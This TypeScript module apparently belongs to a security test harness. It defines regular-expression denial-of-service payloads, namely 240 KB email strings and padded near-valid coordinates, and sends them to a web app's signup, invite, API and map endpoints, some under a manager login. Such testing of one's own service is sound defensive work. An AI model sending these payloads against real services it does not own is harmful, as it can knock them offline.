import { type Attack, JSON_TYPE, send } from "../attack";

const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
const EMAILS = [
  "x@".concat("a.".repeat(120_000)),
  "x@".concat(".".repeat(240_000), "@"),
  "a".repeat(240_000),
];
const COORDINATES = [
  `N${" ".repeat(2_000)}x,1`,
  `N1${" ".repeat(2_000)}x W1`,
  `N${"1 ".repeat(1_000)}x W${"1 ".repeat(1_000)}`,
];
const LINES = COORDINATES.map((line) => Array(9).fill(line).join("\n"));

/** Text on which a careless regular expression takes quadratic time or worse. */
export const slowPatternAttacks: Attack[] = [
  {
    code: "V2",
    name: "emails of 240 KB",
    run: (target) =>
      Promise.all(
        EMAILS.flatMap((email) =>
          ["/signup", "/invite/x"].map((path) =>
            send(target, path, { body: form({ email, first_name: "A" }) }),
          ),
        ),
      ),
  },
  {
    code: "V2",
    name: "emails of 240 KB to the API",
    run: async (target) => {
      const who = await target.as("manager");
      return Promise.all(
        EMAILS.flatMap((email) =>
          ["/api/leads", "/api/company/1/employees"].map((path) =>
            send(target, path, { who, type: JSON_TYPE, body: JSON.stringify({ email, first_name: "A" }) }),
          ),
        ),
      );
    },
  },
  {
    code: "V4",
    name: "coordinates that are nearly right",
    run: async (target) => {
      const who = await target.as("manager");
      return Promise.all(
        LINES.flatMap((points) => [
          send(target, "/jobs/1/roads/new", { who, body: form({ points, show: "1" }) }),
          send(target, "/jobs/1/map/edit", {
            who,
            body: form({ location_method: "draw", areas: points, show: "1" }),
          }),
          send(target, "/jobs/1/map/edit", {
            who,
            body: form({ location_method: "pin", coordinates: points }),
          }),
          send(target, "/api/jobs/1/roads", {
            who,
            type: JSON_TYPE,
            body: JSON.stringify({ name: "R", points }),
          }),
        ]),
      );
    },
  },
];
